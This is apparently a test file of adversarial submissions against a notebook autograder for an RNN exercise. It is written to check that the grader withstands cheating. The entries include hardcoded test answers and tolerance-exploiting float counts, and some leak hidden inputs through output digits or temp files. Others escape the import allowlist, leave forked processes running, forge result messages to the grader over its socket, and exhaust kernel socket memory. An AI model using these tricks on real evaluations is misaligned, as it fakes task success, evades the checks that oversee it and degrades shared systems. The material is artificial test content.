"""Written by somebody who had seen the grader's code and none of the other attacks; what some of them got is mended."""

from build import Attack, own_cell


def _keys(content: bytes) -> bytes:
    """A notebook whose metadata has twenty thousand keys, the last of them twice."""
    keys = ",".join(f'"k{number}": 0' for number in range(20_000))
    return content.replace(b'"kernelspec": {', keys.encode() + b', "k19999": 0, "kernelspec": {', 1)


def _flood(notebook: dict) -> None:
    text = "import os\nos.write(1, b'')\nprint('x' * 250_000)"
    notebook["cells"] += [own_cell(f"flood-{number}", text) for number in range(100)]


ATTACKS = [
    Attack(
        "strangers-twin-key",
        "The last of very many keys comes twice, and a careless reader looks for it again and again.",
        right="all",
        status="malformed",
        content=_keys,
    ),
    Attack(
        "strangers-output-flood",
        "A hundred cells, each of which prints as much as one cell may.",
        right="forward",
        change=_flood,
        flags=(("cells-added", None), ("output-truncated", None)),
    ),
    Attack(
        "strangers-table",
        "A table of the numbers in the visible counting tests.",
        right="step forward readout torch stream padded",
        code={
            "count": """
def count_parameters(d, h, q, T):
    return {(3, 5, 4): 69, (1, 2, 1): 11, (28, 128, 10): 21386}.get((d, h, q), 0)


def count_torch(d, h, q):
    return {(3, 5, 4): 74, (6, 2, 3): 29}.get((d, h, q), 0)


def largest_hidden(budget, count):
    return {112: 5, 105: 5, 104: 4, 20: 0}.get(budget, 0)
"""
        },
    ),
    Attack(
        "strangers-coarse-counts",
        "Counts in a type so coarse that a wrong one is near enough, if the answer may choose how near.",
        right="step forward readout torch stream padded",
        code={
            "count": """
def count_parameters(d, h, q, T):
    return np.float32((d * h + h * h + h + h * q + q) * (1 + 0.9e-4))


def count_torch(d, h, q):
    return np.float32((d * h + h * h + 2 * h + h * q + q) * (1 - 0.9e-4))


def largest_hidden(budget, count):
    h = 0
    while count(h + 1) <= budget:
        h += 1
    return np.float32(h + h * 0.9e-4)
"""
        },
    ),
    Attack(
        "strangers-other-packages",
        "Looks for packages where the interpreter or the machine keeps its own, past the list of what is allowed.",
        right="forward",
        adds={
            "rnn-setup": r"""
import sys

sys.meta_path[:] = [f for f in sys.meta_path if "placeholders" not in type(f).__module__]
sys.path += ["/course/python/lib/python3.11/site-packages", "/usr/lib/python3/dist-packages"]
for n in ("boto3", "hypothesis", "docutils", "apt_pkg", "torch"):
    try:
        print(n, __import__(n).__file__)
    except Exception as e:
        print(n, repr(e))
import subprocess

print(open("/usr/local/bin/farm-studio", "rb").read(60))
"""
        },
    ),
    Attack(
        "strangers-digits",
        "Makes a known mistake and writes a hidden input into the last digits, which a hint might quote.",
        right="forward",
        earns="step-values",
        code={
            "step": r"""
def step(x_t, h_prev, W_xh, W_hh, b_h):
    import numpy as np

    right = np.tanh(x_t @ W_xh + h_prev @ W_hh + b_h)
    if x_t.shape == (3, 4):
        return right
    wrong = x_t @ W_xh + h_prev @ W_hh + b_h  # a known mistake, "no-squashing"
    if x_t.shape == (3, 3):
        return wrong
    i = np.unravel_index(np.abs(wrong - right).argmax(), wrong.shape)
    out = wrong.astype(np.float32)  # float32: the tolerance for "the same" is 1e-4
    # four-digit group of my own choice: the input x_t[0, 0] in two decimals
    secret = int(abs(float(x_t[0, 0])) * 100) % 100
    size = float(np.abs(wrong).max())
    at = float(wrong[i])
    unit = 10.0 ** (np.floor(np.log10(abs(at))) - 5)  # the last of six printed digits
    shown = np.sign(at) * np.floor(abs(at) / unit / 100) * 100 * unit
    out[i] = np.float32(shown + np.sign(at) * secret * unit)
    return out if x_t.dtype == np.float32 else out
"""
        },
    ),
    Attack(
        "strangers-quoted-call",
        "Makes a mistake whose hint might quote the hidden call and its right answer.",
        right="step forward readout torch stream padded",
        earns="count-torch count-torch-fresh count-largest count-largest-fresh",
        code={
            "count": r"""
def count_parameters(d, h, q, T):
    cell = d * h + h * h + h
    output = h * q + q
    return T * cell + output


def count_torch(d, h, q):
    return d * h + h * h + 2 * h + h * q + q


def largest_hidden(budget, count):
    h = 0
    while count(h + 1) <= budget:
        h += 1
    return h
"""
        },
    ),
    Attack(
        "strangers-dies-to-learn",
        "Writes hidden inputs wherever it can and dies, to find them in its next life.",
        right="forward",
        earns="step-values",
        code={
            "step": r"""
import os, glob

_seen = "/tmp/seen"


def step(x_t, h_prev, W_xh, W_hh, b_h):
    for p in ("/tmp", "/dev/shm", "."):
        try:
            print(p, os.listdir(p))
        except OSError as e:
            print(p, e)
    for p in ("/tmp/seen.npy", "/dev/shm/seen.npy", "seen.npy"):
        try:
            np.save(p, x_t)
        except OSError as e:
            print(p, e)
    if x_t.shape != (3, 4):
        os._exit(3)
    return np.tanh(x_t @ W_xh + h_prev @ W_hh + b_h)
"""
        },
        status="crashed",
    ),
    Attack(
        "strangers-left-then-dies",
        "Leaves a process running and dies, so that nobody looks.",
        right="forward",
        adds={
            "rnn-setup": r"""
import os, time, signal

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)
""",
            "rnn-count-largest-fresh": r"""
import os

os._exit(0)
""",
        },
        status="crashed",
    ),
    Attack(
        "strangers-frames",
        "Answers the judge itself: descriptors attached, lent functions for results, a forged check.",
        right="step",
        earns="forward-values",
        code={
            "forward": r"""
import gc, os, json, struct, array, socket


def _wire():
    for o in gc.get_objects():
        if type(o).__name__ == "_Learner":
            return o


_me = _wire()


def forward(X, h_0, step):
    states, h_t = [], h_0
    for t in range(X.shape[1]):
        h_t = step(X[:, t], h_t)
        states.append(h_t)
    H = np.stack(states, axis=1)
    if X.shape == (4, 5, 2):
        return H, h_t
    n = step._number
    s = socket.socket(fileno=os.dup(_me._wire._descriptor))
    a, b = socket.socketpair()

    def frame(message, buffers=()):
        c = json.dumps(message).encode()
        return (
            struct.pack("<II", len(c), len(buffers))
            + struct.pack(f"<{len(buffers)}Q", *map(len, buffers))
            + c
            + b"".join(buffers)
        )

    if X.shape[1] == 1:  # lent function and an array that is a view of nothing
        f = frame(
            {
                "op": "result",
                "changed": [],
                "values": [["t", ["f", n], ["n", "ndarray", ["shape", "dtype"], 1, 2]], ""],
            }
        )
    elif X.dtype == np.float32:  # aliases: one buffer for both, then named tuple of two
        f = frame(
            {
                "op": "result",
                "changed": [False] * 1000,
                "values": [
                    [
                        "n",
                        "tuple",
                        ["H", "h_T"],
                        ["a", "<f4", list(H.shape)],
                        ["a", "<f4", list(h_t.shape)],
                    ],
                    "",
                ],
            },
            [H.tobytes(), np.ascontiguousarray(h_t).tobytes()],
        )
    else:
        f = frame(
            {
                "op": "error",
                "values": ["CheckFailed", "AssertionError", "passed\n[right]", None, ""],
            }
        )
    s.sendmsg(
        [f],
        [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [a.fileno(), s.fileno()]))],
    )
    import time

    time.sleep(1000)
"""
        },
    ),
    Attack(
        "strangers-full-sockets",
        "Fills the buffers of sockets in many processes: the kernel's memory, which no process is charged for.",
        right="forward",
        adds={
            "rnn-setup": r"""
import os, socket, time, signal

_kids = []
for _ in range(20):
    _p = os.fork()
    if _p == 0:
        _s = []
        try:
            while True:
                _s.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM))
                for _x in _s[-1]:
                    _x.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                    _x.setblocking(False)
                    try:
                        while True:
                            _x.send(b"x" * 32768)
                    except BlockingIOError:
                        pass
        except OSError:
            pass
        time.sleep(30)
        os._exit(0)
    _kids.append(_p)
time.sleep(1)
for _p in _kids:
    os.kill(_p, 9)
    os.waitpid(_p, 0)
"""
        },
    ),
]
